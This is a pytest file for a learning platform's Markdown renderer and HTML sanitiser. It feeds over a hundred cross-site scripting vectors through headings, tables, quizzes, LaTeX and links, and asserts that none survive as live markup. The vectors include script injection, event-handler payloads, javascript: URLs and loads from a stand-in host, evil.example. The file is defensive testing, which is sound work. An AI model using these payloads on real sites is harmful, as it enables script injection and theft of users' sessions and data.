"""What an attacker writes never reaches a page as markup, wherever in a document it stands."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from learning.content.context import Reply
from learning.content.markdown import Writer
from learning.content.problems import Problems
from learning.content.sanitiser import TAGS, sanitised
from learning.content.text import Text, normalised
from tests.content.builders import lesson, quiz
from tests.content.conftest import CONTEXT

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)\n>",
    '<img src="https://evil.example/pixel.gif">',
    "<img srcset='https://evil.example/x 1x'>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<xss style='-moz-binding:url(https://evil.example)'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](/&#47;evil.example)",
    "[x](\\/\\/evil.example)",
    "[x](https://a.example\"onmouseover=\"alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/a.svg \"c\")",
    "![x](//evil.example/a.svg \"c\")",
    "![x\" onerror=\"alert(1)](figures/offcut-cost.svg \"c\")",
    "![x](figures/offcut-cost.svg \"<img src=x onerror=alert(1)>\")",
    "![x](figures/../../evil.svg \"c\")",
    "![x](data:image/svg+xml,<svg/onload=alert(1)> \"c\")",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<https://a.example/'><script>alert(1)</script>",
    "<javascript:alert(1)@x.example>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{a onmouseover=alert(1)}{x}$",
    "$\\color{\"onmouseover=alert(1)}{x}$",
    "$\\unicode{60}script\\unicode{62}$",
    "$x\" onmouseover=\"alert(1)$",
    "[[rinse|<img src=x onerror=alert(1)>]]",
    "[[rinse|x\" onmouseover=\"alert(1)]]",
    "[[<script>alert(1)</script>]]",
    "[@s1\"><script>alert(1)</script>]",
    "{{constant:electricity-price\"><script>alert(1)</script>}}",
    "## <script>alert(1)</script> {#x}",
    "## x {#\"><script>alert(1)</script>}",
    "## x {onclick=alert(1)}",
    "x{: onclick=alert(1) }",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "!!! note \"<script>alert(1)</script>\"\n    <script>alert(1)</script>",
    "!!! note\" onclick=\"alert(1)\n    x",
    "!!! onclick=alert(1) \"x\"\n    x",
    "x[^a]\n\n[^a]: <script>alert(1)</script>",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\u0000ipt>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>",
    "\x02hw:0\x03 [[rinse]]",
    "\x02klzzwxh:0000\x03 *a*",
    "\ue0000\ue001 {{a|b}}",
]  # fmt: skip
ATTRIBUTES = {
    "href", "class", "id", "src", "alt", "width", "height", "scope", "role", "tabindex", "aria-label", "data-term",
    "rel", "title", "start", "alttext", "display", "mathvariant", "stretchy", "fence", "form", "linethickness",
    "columnalign", "accent", "separator",
}  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:", "#", "/")):
                self.faults.append(f"href {value}")
            if name == "href" and (value or "")[:2] in ("//", "/\\"):
                self.faults.append(f"href {value}")
            if name == "src" and not (value or "").startswith("/figures/m01/"):
                self.faults.append(f"src {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


def faults(page: str) -> list[str]:
    """All that has no business on a page."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.faults


def test_the_reader_of_these_tests_sees_what_it_must() -> None:
    assert faults("<p onclick=x>") == ["p onclick"]
    assert faults("<script>x</script>") == ["<script>"]
    assert faults("<a href=' javascript:x'>") == ["href  javascript:x"]
    assert faults("<img src=//x>") == ["src //x"]
    assert faults('<p>x</p><a href="/lessons/a">b</a>') == []


def rendered(text: str, *, inline: bool = False) -> str:
    """HTML of a text even where it is refused: the sanitiser must hold by itself."""
    writer = Writer(CONTEXT, Problems("x"), cited=("s1",), lesson=True)
    source = Text.of(normalised(text))
    return writer.finished(writer.inline(source) if inline else writer.blocks(source))


PLACES = [
    "{}", "> {}", "- {}", "a {} b", "**{}**", "| {} | b |\n|---|---|\n| {} | c |", "[{}](/x)", "## {}", ":   {}",
    "x\n:   {}", '!!! note "{}"\n    {}', '![{}](figures/offcut-cost.svg "{}")', "[^a]\n\n[^a]: {}", "{}{}",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives_rendering(vector: str) -> None:
    for place in PLACES:
        text = place.replace("{}", vector)
        assert faults(rendered(text)) == [], text
        assert faults(rendered(text, inline=True)) == [], text


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives_the_sanitiser_alone(vector: str) -> None:
    assert faults(sanitised(vector)) == []


@pytest.mark.parametrize(
    "vector", [vector for vector in VECTORS if vector.startswith("<") and "https://a" not in vector]
)
def test_raw_html_is_refused_with_its_line(read: Callable[..., Reply], vector: str) -> None:
    reply = read(lesson(f"Text.\n\n{vector}"))
    if vector.startswith(("<javascript", "<scr<")) or "\x00" in vector:
        assert reply.lesson is None or faults(reply.lesson.html) == []
        return
    assert reply.lesson is None
    assert any(problem.line >= 13 for problem in reply.problems)


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives_in_a_question(read: Callable[..., Reply], vector: str) -> None:
    line = vector.replace("\n", " ")
    text = quiz(
        f"## {line} {{#q1 type=single}}\n\n{vector}\n\n- [x] {line}\n    > {line}\n- [ ] b\n\n> **Why:** {line}\n\n"
        f"## Q {{#q2 type=cloze}}\n\n{{{{{line}|b}}}} and {{{{={line}}}}}\n\n> **Why:** x"
    )
    reply = read(text, kind="quiz")
    if reply.quiz is not None:
        for question in reply.quiz.questions:
            assert faults(question.stem_html + question.explanation_html) == []
            for option in getattr(question, "options", ()):
                assert faults(option.html + (option.feedback_html or "")) == []
            assert faults("".join(getattr(question, "html_parts", ()))) == []


def test_classes_and_ids_of_the_page_cannot_be_borrowed() -> None:
    page = sanitised('<p class="admin">a</p><h2 id="A b">b</h2><a class="button" href="/x">c</a><li id="1">d</li>')
    assert page == '<p>a</p><h2>b</h2><a href="/x">c</a><li>d</li>'


def test_links_to_the_web_tell_the_other_site_nothing() -> None:
    assert 'rel="noopener noreferrer"' in rendered("[x](https://example.org)")


@pytest.mark.parametrize("text", [vector for vector in VECTORS if "\x02" in vector])
def test_forged_placeholders_are_refused_and_do_no_harm_even_so(read: Callable[..., Reply], text: str) -> None:
    assert read(lesson(text)).lesson is None
    assert "\x02" not in rendered(text)
